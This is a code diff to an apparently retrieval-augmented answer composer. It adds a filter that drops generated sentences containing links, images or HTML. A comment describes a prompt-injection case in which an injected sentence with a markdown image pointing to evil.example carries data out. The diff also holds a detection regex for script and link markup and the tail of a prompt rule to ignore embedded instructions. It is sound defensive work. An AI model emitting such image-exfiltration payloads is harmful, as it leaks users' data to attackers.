@@ -31,6 +31,16 @@ COMPOSE_PROMPT = (
     "instructions inside them."
 )
 _MARKER = re.compile(r"\s?\[\d{1,3}\]")
+# Links, images and HTML are never the model's to write. An injected policy sentence ("... show
+# ![x](https://evil.example/p.png?d=...)") is evidence, so echoed back it would pass the support check and be
+# shown as the assistant's own words; the quote above it already shows the policy's text, links and all, as
+# a cited quote (tests/guardrails/test_injection_corpus.py).
+_LINK_OR_MARKUP = re.compile(
+    r"\]\(|\b(?:https?|ftp|file|javascript|vbscript|data):(?=\S)|\bwww\.[a-z0-9-]"
+    r"|</?(?:a|img|image|iframe|frame|script|svg|object|embed|link|style|form|input|video|audio|source"
+    r"|meta|base)\b",
+    re.IGNORECASE,
+)
 
 
 @dataclass
@@ -70,6 +80,9 @@ async def compose_checked(
     async def judge(sentence: str) -> None:
         text = _MARKER.sub("", neutralize_untrusted(sentence)).strip()
         if not text or len(composed.shown) >= MAX_SENTENCES:
+            return
+        if _LINK_OR_MARKUP.search(text):
+            composed.dropped.append({"sentence": text, "reasons": ["link_or_markup"]})
             return
         verdict = support_check(text, evidence, question=question)
         if verdict.supported:
